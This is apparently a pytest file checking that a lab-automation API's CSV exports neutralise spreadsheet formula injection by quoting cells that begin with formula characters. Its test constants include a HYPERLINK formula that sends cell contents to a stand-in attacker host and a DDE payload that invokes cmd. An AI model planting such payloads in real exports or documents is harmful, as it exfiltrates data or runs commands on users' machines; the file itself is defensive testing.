"""CSV that matloop writes shows text as written: no cell is a formula a spreadsheet runs."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from agents import CampaignAgent
from agents.api import create_app
from agents.serialize import csv_cells, csv_safe
from db.tokens import create_token
from matloop.literature_cli import records_csv

CAMPAIGN = "/api/v1/campaigns/photo-pce10"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def api(photo_pce10_campaign: CampaignAgent) -> Iterator[TestClient]:
    with TestClient(create_app()) as client:
        yield client


@pytest.mark.parametrize("text", ["=1+1", "-1+1", "+A1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_text_starting_as_a_formula_gets_a_quote(text: str) -> None:
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-0.5, -3, 0.5, None, True, "", "plain", "a=b", " =1", "=", "-", "-1", "+2.5e3"]
)
def test_numbers_and_other_text_stay_as_they_are(value: Any) -> None:
    assert csv_safe(value) is value


def test_csv_cells_quote_dotted_text_and_keep_numbers_and_json() -> None:
    row = {"parameters": {"solvent": "=A1", "t": -0.5}, "reason": "-x", "units": {"a": "=b"}}
    assert csv_cells(row) == {
        "parameters.solvent": "'=A1",
        "parameters.t": -0.5,
        "reason": "'-x",
        "units": '{"a": "=b"}',  # JSON text starts with { or [: no formula
    }


def _rows(response: Any) -> dict[str, dict[str, str]]:
    assert response.status_code == 200, response.text
    rows = csv.DictReader(io.StringIO(response.text))
    return {row.get("id") or row["trial_id"]: row for row in rows}


def test_api_csv_pages_quote_formulas_and_keep_numbers(
    api: TestClient, reader: dict[str, str]
) -> None:
    secret, _ = create_token("robot", "instrument", ["photo-pce10"])
    robot = {"Authorization": f"Bearer {secret}"}
    claimed = api.post(f"{CAMPAIGN}/claims", json={"instrument": "r-1", "count": 2}, headers=robot)
    failing, measured = (t["id"] for t in claimed.json()["trials"])
    body = {"instrument": "r-1", "reason": HYPERLINK}
    assert api.post(f"{CAMPAIGN}/trials/{failing}/fail", json=body, headers=robot).is_success
    result = {"trial_id": measured, "values": {"degradation": -0.5}, "idempotency_key": DDE}
    assert api.post(f"{CAMPAIGN}/results", json=result, headers=robot).json()["stored"] == 1

    as_csv = {"format": "csv"}
    trials = _rows(api.get(f"{CAMPAIGN}/trials", params=as_csv, headers=reader))
    assert trials[failing]["reason"] == "'" + HYPERLINK
    assert trials[measured]["claimed_by"] == "r-1"
    [row] = _rows(api.get(f"{CAMPAIGN}/measurements", params=as_csv, headers=reader)).values()
    assert row["idempotency_key"] == "'" + DDE
    assert row["values.degradation"] == "-0.5"  # a number, written as one
    # JSON pages hold the text as sent
    [sent] = api.get(f"{CAMPAIGN}/measurements", headers=reader).json()["data"]
    assert (sent["idempotency_key"], sent["values"]) == (DDE, {"degradation": -0.5})
    listed = api.get(f"{CAMPAIGN}/trials", params={"filter": 'status="failed"'}, headers=reader)
    assert [t["reason"] for t in listed.json()["data"]] == [HYPERLINK]


def test_literature_records_csv_quotes_formulas_and_keeps_numbers() -> None:
    [row] = csv.DictReader(io.StringIO(records_csv([{"material": "=1+1", "value": -0.5}])))
    assert (row["material"], row["value"]) == ("'=1+1", "-0.5")
